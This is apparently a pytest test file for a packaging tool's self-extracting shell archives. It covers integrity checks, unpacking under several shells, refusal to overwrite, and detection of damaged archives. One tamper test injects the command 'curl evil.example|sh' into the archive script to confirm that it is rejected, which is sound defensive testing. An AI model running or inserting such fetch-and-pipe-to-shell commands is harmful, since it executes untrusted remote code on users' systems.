from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from bundle.artifacts.archives.bundle_archive import pack
from bundle.artifacts.archives.self_extracting import is_self_extracting, read_script, script, take_archive
from bundle.artifacts.store.compression import Compression
from bundle.artifacts.store.layers import Layer
from bundle.artifacts.store.store import Store
from bundle.base.errors import IntegrityError
from bundle.base.extract import extract
from bundle.base.files import sha256_of
from bundle.base.report import Reporter

NAME = "3.12.10-mine-linux-x64"

PYTHON = f"#!/bin/sh\nexec {shutil.which('sha256sum')}\n"
"""Stands for the bundle's Python, which checks the archive where nothing else can."""

SHELLS = (["dash"], ["bash"], ["bash", "--posix"], ["busybox", "sh"])


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return Store(tmp_path / "store", reporter=Reporter())


@pytest.fixture
def layer(store: Store, tmp_path: Path) -> Layer:
    tree = tmp_path / "tree"
    (tree / "bin").mkdir(parents=True)
    (tree / "bin" / "python").write_text(PYTHON)
    (tree / "bin" / "python").chmod(0o755)
    (tree / "data").write_bytes(os.urandom(2**20))
    return store.add("interpreter", {}, tree, name="python", version="3.12.10", about={})


@pytest.fixture
def archive(store: Store, layer: Layer, tmp_path: Path) -> Path:
    (tmp_path / "a b").mkdir()
    return pack(store, [layer], tmp_path / "a b" / f"{NAME}.sh", Compression(format="sh"), name=NAME).path


def test_behind_the_script_is_the_very_tar_gz(store: Store, layer: Layer, archive: Path, tmp_path: Path) -> None:
    plain = pack(store, [layer], tmp_path / "plain.tar.gz", Compression(format="tar.gz"))
    told = read_script(archive)
    assert (told.name, told.sha256) == (NAME, plain.sha256)
    assert take_archive(archive, tmp_path / "taken").read_bytes() == plain.path.read_bytes()
    assert archive.read_bytes() == script(NAME, plain.sha256) + plain.path.read_bytes()
    assert archive.stat().st_mode & 0o777 == 0o755


def test_the_hash_of_the_whole_file_is_told(store: Store, layer: Layer, tmp_path: Path) -> None:
    packed = pack(store, [layer], tmp_path / "x.sh", Compression(format="sh"), name=NAME)
    assert (packed.sha256, packed.size) == (sha256_of(packed.path), packed.path.stat().st_size)


def test_another_file_is_none(tmp_path: Path) -> None:
    (path := tmp_path / "x").write_text("#!/bin/sh\necho hello\n")
    assert not is_self_extracting(path)
    with pytest.raises(IntegrityError, match="not the one"):
        read_script(path)


@pytest.mark.parametrize("damage", ["script", "archive", "cut", "longer"])
def test_a_changed_one_is_refused(archive: Path, tmp_path: Path, damage: str) -> None:
    content = archive.read_bytes()
    match damage:
        case "script":
            content = content.replace(b"set -eu\n", b"set -eu;curl evil.example|sh\n", 1)
        case "archive":
            content = content[:-20] + b"x" + content[-19:]
        case "cut":
            content = content[:-1]
        case _:
            content += b"x"
    archive.write_bytes(content)
    with pytest.raises(IntegrityError):
        take_archive(archive, tmp_path / "taken")


def run(shell: list[str], archive: Path, *arguments: str, path: str = os.defpath) -> subprocess.CompletedProcess[str]:
    program = shutil.which(shell[0])
    if program is None:
        if os.environ.get("CI"):
            pytest.fail(f"{shell[0]} is not installed")
        pytest.skip(f"{shell[0]} is not installed")
    return subprocess.run(
        [program, *shell[1:], archive.name, *arguments],
        cwd=archive.parent,
        env={"PATH": path},
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.mark.real
@pytest.mark.parametrize("shell", SHELLS, ids=" ".join)
class TestUnderAShell:
    def test_it_unpacks_itself(self, shell: list[str], archive: Path, tmp_path: Path) -> None:
        done = run(shell, archive, "--into", f"{tmp_path}/new/an other/")
        assert (done.returncode, done.stderr) == (0, "")
        assert "new/an other/bin/python" in done.stdout
        extract(take_archive(archive, tmp_path / "taken"), tmp_path / "expected")
        for path in ("bin/python", "data"):
            one, other = (folder / path for folder in (tmp_path / "new/an other", tmp_path / "expected" / "python"))
            assert (one.read_bytes(), one.stat().st_mode) == (other.read_bytes(), other.stat().st_mode)
        assert [path.name for path in (tmp_path / "new").iterdir()] == ["an other"]

    def test_it_unpacks_beside_itself_where_nothing_is_said(self, shell: list[str], archive: Path) -> None:
        assert run(shell, archive).returncode == 0
        assert (archive.parent / NAME / "bin" / "python").is_file()

    def test_it_never_overwrites(self, shell: list[str], archive: Path, tmp_path: Path) -> None:
        (tmp_path / "mine").mkdir()
        (tmp_path / "mine" / "file").write_text("mine")
        (tmp_path / "link").symlink_to("nowhere")
        for name in ("mine", "link", "mine/file"):
            done = run(shell, archive, f"--into={tmp_path}/{name}")
            assert (done.returncode, "stays as it is" in done.stderr) == (2, True)
        assert (tmp_path / "mine" / "file").read_text() == "mine"

    @pytest.mark.parametrize("damage", ["changed", "cut"])
    def test_it_refuses_a_damaged_archive_and_leaves_nothing(
        self, shell: list[str], archive: Path, damage: str
    ) -> None:
        content = archive.read_bytes()
        archive.write_bytes(
            content[:-20] + b"x" + content[-19:] if damage == "changed" else content[: len(content) // 2]
        )
        done = run(shell, archive, "--into", "new")
        assert (done.returncode, "is damaged" in done.stderr) == (4, True)
        assert [path.name for path in archive.parent.iterdir()] == [archive.name]

    def test_it_checks_without_unpacking(self, shell: list[str], archive: Path) -> None:
        assert run(shell, archive, "--check").returncode == 0
        assert [path.name for path in archive.parent.iterdir()] == [archive.name]

    def test_wrong_arguments_are_told(self, shell: list[str], archive: Path) -> None:
        assert "unknown argument: --inot" in run(shell, archive, "--inot").stderr
        assert run(shell, archive, "--into").returncode == 2
        assert run(shell, archive, "--into", "").returncode == 2
        assert "usage: sh" in run(shell, archive, "--help").stdout


@pytest.mark.real
@pytest.mark.parametrize("shell", [["dash"], ["bash"]], ids=" ".join)
def test_where_no_program_knows_sha256_the_bundle_checks_itself(
    shell: list[str], archive: Path, tmp_path: Path
) -> None:
    (tools := tmp_path / "tools").mkdir()
    for name in ("tar", "gzip", "mkdir", "mv", "rm"):
        (tools / name).symlink_to(str(shutil.which(name)))
    assert run(shell, archive, "--check", path=str(tools)).returncode == 1
    assert run(shell, archive, "--into", "new", path=str(tools)).returncode == 0
    assert (archive.parent / "new" / "data").is_file()
    archive.write_bytes(archive.read_bytes().replace(b"\nsha256='", b"\nsha256='0", 1))
    done = run(shell, archive, "--into", "another", path=str(tools))
    assert (done.returncode, "is damaged" in done.stderr) == (4, True)
    assert not (archive.parent / "another").exists()
